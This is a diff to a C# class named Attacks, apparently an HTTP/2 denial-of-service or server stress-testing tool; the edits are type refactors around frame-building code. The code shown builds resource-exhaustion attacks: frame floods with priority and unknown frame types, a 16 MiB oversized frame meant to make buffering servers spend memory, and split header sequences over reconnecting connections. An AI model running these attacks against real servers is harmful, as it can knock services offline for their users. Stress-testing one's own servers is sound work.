@@ -191,9 +191,9 @@ public static class Attacks
             batch.Clear();
             for (var i = 0; i < 300; i++, sent += 4)
             {
-                batch.Data(1, default, endStream: false);
-                batch.Frame(0xfa, 0, 0, default);
-                batch.Frame(0xfb, 0, 1, default);
+                batch.Data(1, ReadOnlyMemory<byte>.Empty, endStream: false);
+                batch.Frame(0xfa, 0, 0, ReadOnlyMemory<byte>.Empty);
+                batch.Frame(0xfb, 0, 1, ReadOnlyMemory<byte>.Empty);
                 batch.Priority(idle, 1, 15);
                 idle = idle > 0x7fff0000 ? 101 : idle + 2;
             }
@@ -251,9 +251,7 @@ public static class Attacks
     // 9-octet header before the payload is read; a server that buffers it first pays 16 MiB.
     private static Task OversizedFrame(AttackContext ctx) => Parallel(4, _ => Reconnecting(ctx, 2000, async c =>
     {
-        var header = new byte[9];
-        FrameBatch.WriteHeader(header, 0xffffff, Wire.Headers, Wire.EndHeaders, 1);
-        var batch = new FrameBatch().Raw(header);
+        var batch = new FrameBatch().Header(0xffffff, Wire.Headers, Wire.EndHeaders, 1);
         if (!await c.SendAsync(batch, ctx.Token)) return;
         var chunk = new FrameBatch().Raw(new byte[64 * 1024]);
         for (var sent = 0; Going(ctx, c) && sent < 0xffffff; sent += chunk.Length)
@@ -358,7 +356,7 @@ public static class Attacks
                 case 2:
                     var req = Hpack.Request("GET", ctx.Paths.Small, ctx.Authority);
                     var cut = rng.Next(req.Length);
-                    b.Headers(stream, req.AsSpan(0, cut), endStream: true, endHeaders: false).Continuation(stream, req.AsSpan(cut), endHeaders: true);
+                    b.Headers(stream, req.AsMemory(0, cut), endStream: true, endHeaders: false).Continuation(stream, req.AsMemory(cut), endHeaders: true);
                     stream += 2;
                     break;
                 case 3: b.Ping((ulong)rng.NextInt64()); break;
